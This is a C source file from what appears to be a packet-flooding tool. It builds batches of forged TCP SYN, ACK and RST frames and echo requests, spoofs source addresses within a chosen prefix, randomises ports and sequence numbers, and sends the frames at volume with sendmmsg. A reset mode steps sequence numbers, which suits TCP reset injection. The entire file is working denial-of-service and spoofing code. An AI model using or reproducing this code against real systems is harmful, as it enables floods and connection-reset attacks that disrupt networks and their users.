/* Frames without an interest in answers: SYNs, ACKs, RSTs, echo requests, in batches. */
#include "attacker.h"

#include <arpa/inet.h>
#include <errno.h>
#include <string.h>
#include <sys/socket.h>

#define BATCH 64u

static uint8_t frames[BATCH][FORGE_MAX];
static struct mmsghdr messages[BATCH];
static struct iovec parts[BATCH];

static void prepare(struct forge_template *template, const struct forge_plan *plan)
{
    forge_prepare(template, plan);
    for (uint32_t i = 0; i < BATCH; i++) {
        memcpy(frames[i], template->frame, template->length);
        parts[i] = (struct iovec){frames[i], template->length};
        messages[i].msg_hdr = (struct msghdr){.msg_iov = &parts[i], .msg_iovlen = 1};
    }
}

/* An address of the prefix that is neither its first nor its last. */
static uint32_t choose_address(const struct attacker_order *order, uint64_t random)
{
    uint32_t hosts = order->from_length >= 31 ? 0 : (UINT32_C(1) << (32 - order->from_length)) - 2;

    if (hosts == 0)
        return order->from;
    return htonl(ntohl(order->from) + 1 + (uint32_t)(((random >> 32) * hosts) >> 32));
}

static void fill(struct attacker *attacker, uint8_t *frame, const struct forge_template *template,
                 uint64_t number)
{
    const struct attacker_order *order = &attacker->order;
    uint64_t random = attacker_random(attacker), more = attacker_random(attacker);
    struct forge_segment segment = {
        .from = choose_address(order, random),
        .from_port = order->from_port ? order->from_port : (uint16_t)(1024 + random % 64000),
        .seq = (uint32_t)more,
        .timestamp = (uint32_t)(more >> 32),
    };

    if (order->plan.flags & FORGE_ACK)
        segment.ack = (uint32_t)(more >> 32);
    if (order->mode == MODE_RESET)
        segment.seq = order->first + (uint32_t)number * order->step;
    forge_fill(frame, template, &segment);
}

void attacker_flood(struct attacker *attacker)
{
    struct forge_template template;
    uint64_t done = 0;

    prepare(&template, &attacker->order.plan);
    while (attacker_goes_on(attacker)) {
        uint32_t due = attacker_due(attacker, done, BATCH);

        if (due > attacker->order.count - attacker->sent)
            due = (uint32_t)(attacker->order.count - attacker->sent);
        for (uint32_t i = 0; i < due; i++)
            fill(attacker, frames[i], &template, attacker->sent + i);
        for (uint32_t i = 0; i < due;) {
            int took = sendmmsg(attacker->fd, messages + i, due - i, 0);

            if (took > 0) {
                attacker->sent += (uint32_t)took;
                i += (uint32_t)took;
            } else if (errno == ENOBUFS || errno == EAGAIN) {
                attacker->refused++; /* the interface took no more: this one is lost */
                i++;
            } else {
                return;
            }
        }
        done += due;
    }
}
